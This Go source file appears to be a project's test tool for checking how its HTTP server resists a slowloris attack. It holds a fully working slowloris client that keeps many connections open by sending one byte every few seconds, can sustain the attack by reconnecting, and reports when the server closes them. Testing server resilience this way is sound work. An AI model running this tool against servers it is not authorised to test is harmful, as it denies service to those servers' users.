// Command slowloris is the slow client of scripts/slowloris.sh: it opens N connections to an
// HTTP server, and each sends one byte of a request head every interval, never ending the head
// (the slowloris attack). It reports when the server closed them, counted from each one's first
// byte, and how many were still open at the end.
//
//	go run ./scripts/slowloris --addr 127.0.0.1:8080 [--conns 1000] [--every 5s] [--for 30s] [--reconnect]
//
// With --reconnect a connection the server closes is replaced at once, so that N stay open all
// along (a steady attack). The last line is the report:
//
//	slowloris: N conns, M closed by the server (first byte to close: min A, p50 B, max C), K open at the end, E errors
package main

import (
	"errors"
	"flag"
	"fmt"
	"net"
	"os"
	"os/signal"
	"slices"
	"sync"
	"syscall"
	"time"
)

// head is the request head the connections send, one byte at a time; it never ends.
var head = []byte("GET /plaintext HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + string(slices.Repeat([]byte{'a'}, 64<<10)))

func main() {
	addr := flag.String("addr", "127.0.0.1:8080", "the server's address")
	conns := flag.Int("conns", 1000, "connections")
	every := flag.Duration("every", 5*time.Second, "time between two bytes of a connection")
	total := flag.Duration("for", 30*time.Second, "how long to run")
	reconnect := flag.Bool("reconnect", false, "replace a connection the server closed")
	flag.Parse()
	if *conns <= 0 || *every <= 0 || *total <= 0 {
		fmt.Fprintln(os.Stderr, "slowloris: --conns, --every and --for must be positive")
		os.Exit(2)
	}
	end := time.Now().Add(*total)
	stop := make(chan struct{})
	sigs := make(chan os.Signal, 1)
	signal.Notify(sigs, syscall.SIGINT, syscall.SIGTERM)
	go func() {
		select {
		case <-sigs:
		case <-time.After(*total):
		}
		close(stop)
	}()
	var (
		mu     sync.Mutex
		closed []time.Duration // first byte to the server's close
		open   int
		errs   int
		first  error
	)
	var wg sync.WaitGroup
	for range *conns {
		wg.Go(func() {
			for {
				took, err := slowConn(*addr, *every, end, stop)
				mu.Lock()
				switch {
				case err != nil:
					errs++
					if first == nil {
						first = err
					}
				case took < 0:
					open++
				default:
					closed = append(closed, took)
				}
				mu.Unlock()
				if !*reconnect || took < 0 || err != nil {
					return
				}
			}
		})
	}
	wg.Wait()
	slices.Sort(closed)
	stat := "none"
	if n := len(closed); n > 0 {
		stat = fmt.Sprintf("min %v, p50 %v, max %v", closed[0].Round(time.Millisecond), closed[n/2].Round(time.Millisecond), closed[n-1].Round(time.Millisecond))
	}
	if first != nil {
		fmt.Fprintf(os.Stderr, "slowloris: first error: %v\n", first)
	}
	fmt.Printf("slowloris: %d conns, %d closed by the server (first byte to close: %s), %d open at the end, %d errors\n",
		*conns, len(closed), stat, open, errs)
}

// slowConn opens a connection and sends a byte of head every interval until the server closes
// it (it returns the time from the first byte to the close), or until end or stop (it returns a
// negative duration), or an error that is not the server's close (a failed dial).
func slowConn(addr string, every time.Duration, end time.Time, stop <-chan struct{}) (time.Duration, error) {
	c, err := net.DialTimeout("tcp", addr, 10*time.Second)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	start := time.Now() // before the first byte is written: the server cannot have it earlier
	buf := make([]byte, 4096)
	for i := 0; ; i++ {
		if _, err := c.Write(head[i%len(head) : i%len(head)+1]); err != nil {
			return time.Since(start), nil // a reset: closed by the server
		}
		next := time.Now().Add(every)
		if next.After(end) {
			next = end
		}
		c.SetReadDeadline(next) // waits for the next byte's time, and hears the server's close
		if closedBy(c, buf) {
			return time.Since(start), nil
		}
		select {
		case <-stop:
			return -1, nil
		default:
		}
		if !time.Now().Before(end) {
			return -1, nil
		}
	}
}

// closedBy reads c until its read deadline (false) or its end: EOF or a reset (true). Bytes
// (a response such as 408 or 431) are skipped: what follows them is the close.
func closedBy(c net.Conn, buf []byte) bool {
	for {
		n, err := c.Read(buf)
		var ne net.Error
		switch {
		case n > 0 && err == nil:
		case errors.As(err, &ne) && ne.Timeout():
			return false
		default: // io.EOF, a reset
			return true
		}
	}
}
